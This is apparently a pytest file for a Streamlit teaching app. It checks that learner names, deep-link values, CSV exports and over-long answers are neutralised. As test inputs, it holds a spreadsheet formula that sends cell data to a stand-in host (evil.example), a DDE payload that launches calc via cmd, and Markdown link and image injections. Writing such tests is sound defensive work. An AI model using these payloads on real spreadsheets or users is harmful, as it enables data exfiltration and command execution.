"""Issue 22, "outside text is text" and "every input bounded", under AppTest: each test is an
attack that used to work (a name rendered as Markdown, a deep link echoed as a link, a formula
in the CSV, an over-long reflection marked done) and now does no harm."""

from __future__ import annotations

import csv
import io
import logging
import tempfile
import types
import uuid
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from dropout_lab.lesson import lessons, md
from dropout_lab.store.schema import TEXT_MAX
from dropout_lab.training.runstore import RunStore
from dropout_lab.ui import session
from tests.support.harness import MAIN

TOKEN = "s3cret-token"
NAME = "__bold__ www.x.com"
QUESTIONS = lessons.load_reflect_questions()
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "Your grade")'


@pytest.fixture(autouse=True)
def own_client(monkeypatch: pytest.MonkeyPatch) -> None:
    from dropout_lab.ui import links

    client = "test:" + uuid.uuid4().hex
    monkeypatch.setattr(links, "client", lambda: client)


def store():
    from dropout_lab.store import Store

    return Store()  # the app's database (the test session's DROPOUT_LAB_DATA_DIR)


def rendered(source: str) -> str:
    """What CommonMark makes of `source` (Streamlit's Markdown is CommonMark and GFM)."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(source)


def shows_literally(source: str, typed: str) -> None:
    """`typed` is in the rendered HTML as its letters: its __ made no bold, no link, no image
    (the template's own Markdown around it may make some)."""
    html = rendered(source)
    assert "<a" not in html and "<img" not in html, html
    assert typed in html.replace(md.WORD_JOINER, ""), (typed, html)
    assert "www." not in html  # GFM's autolink of www.x.com needs "www." in one piece


def class_code() -> str:
    return "O" + uuid.uuid4().hex[:8]


def test_a_name_in_markdown_shows_as_typed_in_the_sidebar() -> None:
    at = AppTest.from_file(str(MAIN), default_timeout=60)
    at.query_params.update({"learner": NAME, "class": class_code()})
    at.run()
    assert not at.exception, at.exception
    assert at.session_state[session.LEARNERS_LEARNER].name == NAME
    (joined,) = [m.value for m in at.sidebar.markdown if "bold" in m.value]
    shows_literally(joined, NAME)


def test_a_deep_link_rate_is_not_echoed() -> None:
    for raw in ("[x](http://evil.example)", "![i](http://evil.example/p.png)", "1e400", "2"):
        at = AppTest.from_file(str(MAIN), default_timeout=60)
        at.query_params["rate"] = raw
        at.run()
        at.switch_page("steps/explore.py").run()
        assert not at.exception, at.exception
        (warning,) = [w.value for w in at.warning if "dropout rate" in w.value]
        assert "evil" not in warning and "[" not in warning and "](" not in warning
        assert "<a" not in rendered(warning) and "<img" not in rendered(warning)
        assert at.session_state["explore.rate"] == 0.3


@pytest.fixture
def dashboard(monkeypatch: pytest.MonkeyPatch):
    """Signs in to a class of one learner called NAME, whose answers are formulas; yields
    (the page, every CSV text offered for download)."""
    from dropout_lab.store import Store, classroom
    from dropout_lab.training.runstore import RunStore
    from dropout_lab.training.service import TrainingService
    from dropout_lab.ui import training

    monkeypatch.setenv("DROPOUT_LAB_INSTRUCTOR_TOKEN", TOKEN)
    made: list[str] = []
    real = classroom.to_csv
    monkeypatch.setattr(classroom, "to_csv", lambda *a, **k: made.append(real(*a, **k)) or made[-1])
    code = class_code()
    s = Store()
    me = s.join(NAME, code)
    s.save_reflection(me.id, QUESTIONS[0].id, FORMULA)
    summary = {"run_key": "k", "rates": [0.5], "val_accuracy": 0.9, "epochs": 1}
    s.save_submission(me.id, "overfit", "@SUM(1+1)*cmd|' /C calc'!A0", {"layers": []}, summary)

    svc = TrainingService(RunStore(tempfile.mkdtemp(prefix="outside-text-runs-")), max_workers=1)
    monkeypatch.setattr(training, "service", lambda: svc)
    at = AppTest.from_file(str(MAIN), default_timeout=60).run()
    at.switch_page("steps/dashboard.py").run()
    at.text_input(key="dashboard.token").input(TOKEN)
    at.button[0].click().run()
    at.text_input(key="dashboard.class").input(code).run()
    at.toggle(key=session.DASHBOARD_INSIGHTS).set_value(True).run()
    assert not at.exception, at.exception
    yield at, made
    svc.shutdown()


def test_on_the_dashboard_a_name_shows_as_typed(dashboard) -> None:
    at, _ = dashboard
    (label,) = [e.label for e in at.expander if "bold" in e.label]
    shows_literally(label, NAME)
    captions = [c.value for c in at.caption if "bold" in c.value]  # the class view's answers
    assert captions
    for caption in captions:
        shows_literally(caption, NAME)


def test_every_csv_export_neutralises_formulas(dashboard) -> None:
    _, made = dashboard
    assert len(made) >= 5  # progress, work, sweep, gradebook, items
    cells = [cell for text in made for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells  # the answer arrives, as text
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'" + NAME not in cells and NAME in cells  # nothing else changes
    for cell in cells:
        assert cell.lstrip(" ")[:1] not in ("=", "+", "@", "\t", "\r") or cell[:1] == "'", cell


class StubService:
    """Reflect's models are never ready: the page shows its questions at once, trains nothing.
    Its runs store is a real, empty one (Reflect's review reads the lesson's runs from it)."""

    def __init__(self, store: RunStore) -> None:
        self.store = store

    def submit(self, spec, config, **kwargs) -> str:
        return "stub-" + uuid.uuid4().hex[:6]

    def status(self, key):
        return types.SimpleNamespace(finished=False, state="queued", queue_position=1,
                                     epochs_done=0, epochs_total=1, error=None)  # fmt: skip


def reflect_page(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> AppTest:
    """The Reflect page of a joined learner (its models never ready: nothing trains)."""
    from dropout_lab.ui import training

    stub = StubService(RunStore(tmp_path / "runs"))
    monkeypatch.setattr(training, "service", lambda: stub)
    at = AppTest.from_file(str(MAIN), default_timeout=60)
    at.query_params.update({"learner": "Lena", "class": class_code()})
    at.run()
    at.switch_page("steps/reflect.py").run()
    assert not at.exception, at.exception
    return at


def answer(at: AppTest, qid: str, text: str) -> None:
    at.text_area(key=session.REFLECT_ANSWER.of(qid)).set_value(text).run()
    assert not at.exception, at.exception


def test_an_answer_the_store_refuses_is_said_and_reflect_is_not_done(
    monkeypatch, caplog, tmp_path
) -> None:
    """The store's cap is below what reached it (as a 20,001-character answer was before the
    box had a cap): refused before the database with a sentence beside the box, no traceback,
    and Reflect is not marked done until every answer is stored."""
    from dropout_lab.store import learners as stored_learners

    at = reflect_page(monkeypatch, tmp_path)
    me = at.session_state[session.LEARNERS_LEARNER]
    for q in QUESTIONS[1:]:
        answer(at, q.id, f"My answer to {q.id}.")
    monkeypatch.setattr(stored_learners, "TEXT_MAX", 50)
    caplog.set_level(logging.WARNING)
    answer(at, QUESTIONS[0].id, "y" * 60)
    (said,) = [e.value for e in at.error if "Not saved" in e.value]
    assert md.text("too long: 60 characters (at most 50)") in said  # escaped: Markdown
    stored = store().reflections(me.id)
    assert QUESTIONS[0].id not in stored and len(stored) == len(QUESTIONS) - 1
    assert "reflect" not in store().progress(me.id)  # not marked done
    assert not any(r.exc_info for r in caplog.records)  # no traceback logged
    answer(at, QUESTIONS[0].id, "Short.")  # shortened: stored, and now Reflect is done
    assert not any("Not saved" in e.value for e in at.error)
    assert store().reflections(me.id)[QUESTIONS[0].id] == "Short."
    assert store().progress(me.id).get("reflect") == {"answered"}


def test_an_over_long_answer_never_reaches_the_database(monkeypatch, caplog, tmp_path) -> None:
    """The box says its cap (a counter) and takes no more: a forged 25,000-character value is
    cut at the cap before the page sees it; nothing fails, nothing is logged as an error."""
    at = reflect_page(monkeypatch, tmp_path)
    me = at.session_state[session.LEARNERS_LEARNER]
    qid = QUESTIONS[0].id
    assert at.text_area(key=session.REFLECT_ANSWER.of(qid)).proto.max_chars == TEXT_MAX
    caplog.set_level(logging.WARNING)
    answer(at, qid, "z" * 25_000)
    assert len(store().reflections(me.id)[qid]) == TEXT_MAX
    assert not at.error and not any(r.levelno >= logging.ERROR for r in caplog.records)
